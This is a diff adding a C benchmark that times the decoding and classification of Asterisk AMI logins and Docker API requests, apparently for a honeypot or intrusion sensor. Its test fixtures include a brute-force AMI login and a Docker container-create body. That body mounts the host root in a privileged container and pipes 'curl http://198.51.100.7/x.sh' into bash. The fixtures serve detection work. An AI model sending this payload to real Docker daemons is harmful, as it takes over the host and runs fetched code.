@@ -1,0 +1,181 @@
+// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
+/*
+ * Decoding and classifying on one core: bench_decode [ami|docker]. Prints one JSON object a line:
+ * {"name","measured","target","unit","ok"}. Each figure is the median of rounds that take turns.
+ */
+#include <stdio.h>
+#include <stdlib.h>
+#include <time.h>
+
+#include "user/decode/decoder.h"
+
+#define ROUNDS 9
+#define ROUND_REQUESTS 200000
+
+/* As hydra's asterisk module sends it, with what fig. 2 of a bulletin of 2015 shows behind it. */
+static const char login[] =
+	"Action: Login\r\nUsername: admin\r\nSecret: 1234\r\nEvents: off\r\n\r\n"
+	"Action: Logoff\r\n\r\n";
+
+static const char get[] = "GET /v1.24/containers/json HTTP/1.1\r\nHost: 192.0.2.1:2375\r\n"
+			  "User-Agent: Mozilla/5.0 zgrab/0.x\r\nAccept: */*\r\n"
+			  "Accept-Encoding: gzip\r\n\r\n";
+static const char bare_get[] = "GET /version HTTP/1.1\r\nHost: 192.0.2.1:2375\r\n\r\n";
+
+/* The body of docker run, client 20.10. */
+static const char body[] =
+	"{\"Hostname\":\"\",\"Domainname\":\"\",\"User\":\"\",\"AttachStdin\":false,"
+	"\"AttachStdout\":true,"
+	"\"AttachStderr\":true,\"Tty\":false,\"OpenStdin\":false,\"StdinOnce\":false,\"Env\":null,"
+	"\"Cmd\":["
+	"\"chroot\",\"/mnt\",\"sh\",\"-c\",\"curl -s http://198.51.100.7/x.sh | "
+	"bash\"],\"Image\":\"alpine\","
+	"\"Volumes\":{},\"WorkingDir\":\"\",\"Entrypoint\":null,\"OnBuild\":null,\"Labels\":{},"
+	"\"HostConfig\":{"
+	"\"Binds\":[\"/:/"
+	"mnt\"],\"ContainerIDFile\":\"\",\"LogConfig\":{\"Type\":\"\",\"Config\":{}},"
+	"\"NetworkMode\":\"host\",\"PortBindings\":{},\"RestartPolicy\":{\"Name\":\"no\","
+	"\"MaximumRetryCount\":0},\"AutoRemove\":true,\"VolumeDriver\":\"\",\"VolumesFrom\":null,"
+	"\"CapAdd\":null,"
+	"\"CapDrop\":null,\"CgroupnsMode\":\"\",\"Dns\":[],\"DnsOptions\":[],\"DnsSearch\":[],"
+	"\"ExtraHosts\":null,"
+	"\"GroupAdd\":null,\"IpcMode\":\"\",\"Cgroup\":\"\",\"Links\":null,\"OomScoreAdj\":0,"
+	"\"PidMode\":\"\","
+	"\"Privileged\":true,\"PublishAllPorts\":false,\"ReadonlyRootfs\":false,\"SecurityOpt\":"
+	"null,"
+	"\"UTSMode\":\"\",\"UsernsMode\":\"\",\"ShmSize\":0,\"ConsoleSize\":[0,0],\"Isolation\":"
+	"\"\","
+	"\"CpuShares\":0,\"Memory\":0,\"NanoCpus\":0,\"CgroupParent\":\"\",\"BlkioWeight\":0,"
+	"\"BlkioWeightDevice\":[],\"BlkioDeviceReadBps\":null,\"BlkioDeviceWriteBps\":null,"
+	"\"BlkioDeviceReadIOps\":null,\"BlkioDeviceWriteIOps\":null,\"CpuPeriod\":0,\"CpuQuota\":0,"
+	"\"CpuRealtimePeriod\":0,\"CpuRealtimeRuntime\":0,\"CpusetCpus\":\"\",\"CpusetMems\":\"\","
+	"\"Devices\":[],"
+	"\"DeviceCgroupRules\":null,\"DeviceRequests\":null,\"KernelMemory\":0,\"KernelMemoryTCP\":"
+	"0,"
+	"\"MemoryReservation\":0,\"MemorySwap\":0,\"MemorySwappiness\":-1,\"OomKillDisable\":false,"
+	"\"PidsLimit\":0,\"Ulimits\":null,\"CpuCount\":0,\"CpuPercent\":0,\"IOMaximumIOps\":0,"
+	"\"IOMaximumBandwidth\":0,\"MaskedPaths\":null,\"ReadonlyPaths\":null},"
+	"\"NetworkingConfig\":{"
+	"\"EndpointsConfig\":{}}}\n";
+
+static char create[2048];
+static size_t create_n;
+
+static double cpu_seconds(void)
+{
+	struct timespec t;
+
+	clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &t);
+	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
+}
+
+/* With a docker client's head: 1.9 kB in all. */
+static void make_create(void)
+{
+	int n = snprintf(create, sizeof(create),
+			 "POST /v1.41/containers/create HTTP/1.1\r\nHost: 192.0.2.1:2375\r\n"
+			 "User-Agent: Docker-Client/20.10.24 (linux)\r\nContent-Length: %zu\r\n"
+			 "Content-Type: application/json\r\n\r\n%s",
+			 sizeof(body) - 1, body);
+
+	create_n = (size_t)n;
+}
+
+static void must(bool condition, const char *what)
+{
+	if (condition)
+		return;
+	fprintf(stderr, "bench_decode: wrong result: %s\n", what);
+	exit(1);
+}
+
+static void decode(struct arena *arena, struct decoded *d, const char *p, size_t n,
+		   enum protocol expected)
+{
+	struct decode_input in = {
+		.p = (const uint8_t *)p, .n = (uint32_t)n, .expected = expected, .ended = true
+	};
+
+	arena_reset(arena);
+	decode_prefix(&in, arena, d);
+}
+
+static double ami_round(struct arena *arena)
+{
+	double start = cpu_seconds();
+	struct decoded d;
+
+	for (int i = 0; i < ROUND_REQUESTS; i++) {
+		decode(arena, &d, login, sizeof(login) - 1, PROTOCOL_AMI);
+		must(d.purpose == PURPOSE_AMI_LOGIN && d.ami.n_logins == 1, "login");
+	}
+	return ROUND_REQUESTS / (cpu_seconds() - start);
+}
+
+/* Each request is a conversation of its own: dearer than several on one connection. */
+static double docker_round(struct arena *arena)
+{
+	double start = cpu_seconds();
+	struct decoded d;
+
+	for (int i = 0; i < ROUND_REQUESTS / 10; i++) {
+		for (int k = 0; k < 9; k++) {
+			if (k & 1)
+				decode(arena, &d, get, sizeof(get) - 1, PROTOCOL_DOCKER);
+			else
+				decode(arena, &d, bare_get, sizeof(bare_get) - 1, PROTOCOL_DOCKER);
+			must(d.kind == KIND_DOCKER && d.http.n_requests == 1, "get");
+		}
+		decode(arena, &d, create, create_n, PROTOCOL_DOCKER);
+		must(d.http.create.privileged && d.http.create.binds.n == 1, "create");
+	}
+	return ROUND_REQUESTS / (cpu_seconds() - start);
+}
+
+static const struct bench {
+	const char *kind, *name;
+	double (*round)(struct arena *arena);
+	double target;
+	const char *unit;
+} benches[] = {
+	{ "ami", "decode and classify AMI logins", ami_round, 1e6, "logins/s on one core" },
+	{ "docker", "decode and classify Docker requests", docker_round, 1e6,
+	  "requests/s on one core" },
+};
+#define N_BENCHES (sizeof(benches) / sizeof(benches[0]))
+
+static int ascending(const void *a, const void *b)
+{
+	double x = *(const double *)a, y = *(const double *)b;
+
+	return (x > y) - (x < y);
+}
+
+int main(int argc, char **argv)
+{
+	double rounds[N_BENCHES][ROUNDS];
+	struct arena arena;
+	bool any = false;
+
+	make_create();
+	if (arena_init(&arena, DECODE_ARENA_SIZE(8192)))
+		return 1;
+	for (int r = 0; r < ROUNDS; r++)
+		for (size_t i = 0; i < N_BENCHES; i++)
+			if (argc < 2 || strcmp(argv[1], benches[i].kind) == 0)
+				rounds[i][r] = benches[i].round(&arena);
+	for (size_t i = 0; i < N_BENCHES; i++) {
+		if (argc >= 2 && strcmp(argv[1], benches[i].kind) != 0)
+			continue;
+		any = true;
+		qsort(rounds[i], ROUNDS, sizeof(rounds[i][0]), ascending);
+		printf("{\"name\":\"%s\",\"measured\":%.0f,\"target\":%.0f,\"unit\":\"%s\",\"ok\":%"
+		       "s}\n",
+		       benches[i].name, rounds[i][ROUNDS / 2], benches[i].target, benches[i].unit,
+		       rounds[i][ROUNDS / 2] >= benches[i].target ? "true" : "false");
+	}
+	arena_free(&arena);
+	if (!any)
+		fprintf(stderr, "bench_decode: '%s' is not ami or docker\n", argv[1]);
+	return any && !fflush(stdout) ? 0 : 2;
+}
